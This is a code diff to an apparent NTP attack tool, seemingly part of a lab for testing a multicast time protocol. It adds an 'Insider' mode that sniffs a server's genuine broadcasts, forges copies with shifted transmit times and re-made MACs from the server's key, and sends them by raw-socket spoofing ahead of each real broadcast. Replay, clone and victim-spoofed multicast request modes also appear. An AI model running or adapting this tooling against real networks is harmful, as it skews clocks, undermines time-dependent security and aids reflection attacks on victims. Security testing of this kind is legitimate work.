@@ -131,6 +131,33 @@ enum Mode {
         #[arg(long = "from", required = true)]
         from: Vec<Ipv4Addr>,
     },
+    /// An insider: a host that holds the server's MAC key (as every client
+    /// does) forges the server's broadcasts with valid MACs, each
+    /// `--shift-ms` off, sent just before the next genuine one. It cannot
+    /// make the server's Ed25519 signature: it keeps the genuine field, so
+    /// the packet looks signed but the signature no longer matches.
+    Insider {
+        #[command(flatten)]
+        limits: Limits,
+        /// The server to impersonate.
+        #[arg(long)]
+        server: Ipv4Addr,
+        /// The group.
+        #[arg(long, default_value = "224.0.1.1")]
+        group: Ipv4Addr,
+        /// The keys file holding the server's MAC key.
+        #[arg(long)]
+        keys: PathBuf,
+        /// The server's key id.
+        #[arg(long)]
+        key: u32,
+        /// How far the forged transmit times are off (positive: ahead).
+        #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
+        shift_ms: i64,
+        /// Send this long before the next genuine broadcast is due.
+        #[arg(long, default_value_t = 40)]
+        lead_ms: u64,
+    },
     /// Spoofed requests in a victim's name to a multicast or broadcast
     /// address, so every server there answers the victim.
     McastRequest {
@@ -205,6 +232,11 @@ fn summary(mode: &str) -> Summary {
 
 /// A genuine broadcast of `server` to `group`: newer than any seen (our
 /// own replays are older, and our frames are left out by MAC anyway).
+/// 2^poll of a broadcast (poll 6 when it has none that parses).
+fn interval(payload: &[u8]) -> Duration {
+    Duration::from_secs_f64(2f64.powi(i32::from(poll(payload).unwrap_or(6).clamp(0, 17))))
+}
+
 fn genuine(s: &Seen, server: Ipv4Addr, group: Ipv4Addr, newest: u64) -> Option<u64> {
     let t = transmit(&s.payload)?;
     (*s.src.ip() == server && *s.dst.ip() == group && mode(&s.payload) == Some(5) && t > newest)
@@ -259,6 +291,21 @@ fn run(mode: Mode) -> Result<Summary, String> {
             group,
             from,
         } => clone(&limits, server, group, &from),
+        Mode::Insider {
+            limits,
+            server,
+            group,
+            keys,
+            key,
+            shift_ms,
+            lead_ms,
+        } => insider(
+            &limits,
+            (server, group),
+            (&keys, key),
+            shift_ms,
+            Duration::from_millis(lead_ms),
+        ),
         Mode::McastRequest {
             limits,
             victim,
@@ -272,6 +319,69 @@ fn run(mode: Mode) -> Result<Summary, String> {
             Duration::from_millis(interval_ms),
         ),
     }
+}
+
+/// `server`'s broadcast `genuine` with its transmit time moved to our
+/// clock plus `shift_ms` and its MAC made again with `key`.
+fn forge(genuine: &[u8], shift_ms: i64, key: &mcast_keys::Key) -> Option<Vec<u8>> {
+    let mut d = mcast_proto::Datagram::parse(genuine).ok()?;
+    let shift = mcast_proto::NtpDuration::from_seconds_f64(shift_ms as f64 / 1000.0);
+    d.header.transmit = mcast_proto::NtpTimestamp::from_bits(mcast_lab::attack::ntp_now()) + shift;
+    let mut out = Vec::new();
+    mcast_keys::packet::sign(key, &d, &mut out);
+    Some(out)
+}
+
+fn insider(
+    l: &Limits,
+    (server, group): (Ipv4Addr, Ipv4Addr),
+    (keys, key_id): (&std::path::Path, u32),
+    shift_ms: i64,
+    lead: Duration,
+) -> Result<Summary, String> {
+    let store = mcast_keys::KeyStore::load(keys).map_err(|e| e.to_string())?;
+    let key = mcast_keys::KeyId::new(key_id)
+        .and_then(|id| store.get(id))
+        .ok_or_else(|| format!("key {key_id} is not in {}", keys.display()))?
+        .clone();
+    let b = bounds(l)?;
+    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
+    let spoof = io("raw socket", Spoofer::new())?;
+    eprintln!("ntp-attack: listening");
+    let mut s = summary("insider");
+    let (src, dst) = (
+        SocketAddrV4::new(server, NTP),
+        SocketAddrV4::new(group, NTP),
+    );
+    let mut newest = 0u64;
+    let mut latest: Option<Vec<u8>> = None;
+    let mut due: Option<Instant> = None;
+    while b.more(s.sent) {
+        let wait = due.map_or(b.until(), |d| d.min(b.until()));
+        match io("sniff", sniff.next_until(wait))? {
+            Some(p) => {
+                let Some(t) = genuine(&p, server, group, newest) else {
+                    continue;
+                };
+                newest = t;
+                s.seen += 1;
+                due = Some(p.at + interval(&p.payload).saturating_sub(lead));
+                latest = Some(p.payload);
+            }
+            None => {
+                if let (Some(d), Some(g)) = (due, &latest)
+                    && Instant::now() >= d
+                {
+                    if let Some(forged) = forge(g, shift_ms, &key) {
+                        io("send", spoof.send(src, dst, &forged))?;
+                        s.sent += 1;
+                    }
+                    due = None;
+                }
+            }
+        }
+    }
+    Ok(s)
 }
 
 fn replay(
@@ -305,9 +415,7 @@ fn replay(
                 s.seen += 1;
                 // The genuine schedule: the shortest gap seen (never less
                 // than 2^poll), else 2^poll.
-                let nominal = Duration::from_secs_f64(
-                    2f64.powi(i32::from(poll(&p.payload).unwrap_or(6).clamp(0, 17))),
-                );
+                let nominal = interval(&p.payload);
                 if let Some(prev) = last {
                     let g = p.at.duration_since(prev).max(nominal);
                     gap = Some(gap.map_or(g, |old: Duration| old.min(g)));
